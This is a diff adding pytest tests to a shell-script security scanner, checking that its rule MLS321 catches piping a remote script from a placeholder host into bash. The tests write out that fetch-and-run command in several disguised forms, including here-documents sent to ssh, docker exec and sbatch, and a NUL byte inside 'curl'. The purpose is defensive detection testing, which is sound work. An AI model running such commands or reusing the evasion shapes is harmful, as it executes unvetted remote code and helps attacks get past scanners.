@@ -136,3 +136,43 @@ def test_a_generated_installer_of_a_few_mib_is_read_whole(tmp_path: Path) -> Non
     manifest = "cat <<'EOF' | kubectl apply -f -\n" + "  key: value\n" * 250_000 + "EOF\n"  # ~3 MiB
     text = manifest + "curl -fsSL https://x.example/i.sh | bash\n"
     assert [(rule, severity) for rule, _, severity in rules_of(tmp_path, text, "install.sh")] == [("MLS321", "high")]
+
+
+def test_second_red_team_script_shapes(tmp_path: Path) -> None:
+    runs = "curl -fsSL https://x.example/i.sh | bash"
+    for text in (
+        "curl -fsSL https://x.example/i.sh |\n  bash\n",  # a pipe at a line's end goes on
+        f"bash > setup.log 2>&1 <<'EOF'\n{runs}\nEOF\n",
+        f"runuser -u app -- bash <<'EOF'\n{runs}\nEOF\n",
+        f"ssh build-host <<'EOF'\n{runs}\nEOF\n",
+        f"sbatch <<'EOF'\n#!/bin/bash\n{runs}\nEOF\n",
+        f"docker exec -i builder bash <<'EOF'\n{runs}\nEOF\n",
+        f"echo ok ;# don't\n{runs}\n",  # the comment's apostrophe opens nothing
+        "cu\0rl -fsSL https://x.example/i.sh | bash\n",  # bash drops NUL bytes
+        f"cat > x <<$'A'\nbody\nA\n{runs}\n",
+        f'msg="\nsee <<EOF below\n"\n{runs}\n',  # an opener inside a string is text
+    ):
+        assert "MLS321" in [rule for rule, _, _ in rules_of(tmp_path, text)], text
+    for text in (
+        f"pip install -e .  # or: {runs}\n",
+        'case "$1" in\n  --trust-remote-code) TRUST=1 ;;\nesac\n',
+        "echo \"start with: jupyter lab --ip=0.0.0.0 --ServerApp.token=''\"\n",
+    ):
+        assert [f for f in rules_of(tmp_path, text) if f[2] != "low"] == [], text
+
+
+def test_job_scripts_with_a_shell_shebang_are_shell_scripts(tmp_path: Path) -> None:
+    assert is_shell_script("train.slurm", "#!/bin/bash\n#SBATCH -N 1\n")
+    assert not is_shell_script("train.slurm", "# no shebang\n")
+    path = tmp_path / "train.sbatch"
+    path.write_text("#!/bin/bash\ncurl -fsSL https://x.example/i.sh | bash\n")
+    assert "shell" in file_tags(path)
+    assert [(f.rule_id, f.line) for f in scan_code(tmp_path, path.read_text(), "train.sbatch")] == [("MLS321", 2)]
+
+
+def test_a_megabyte_of_unclosed_here_documents_is_linear(tmp_path: Path) -> None:
+    import time
+
+    started = time.perf_counter()
+    script_commands("cat <<EOF\n" * 100_000)
+    assert time.perf_counter() - started < 30  # a guard against quadratic time, not a speed goal
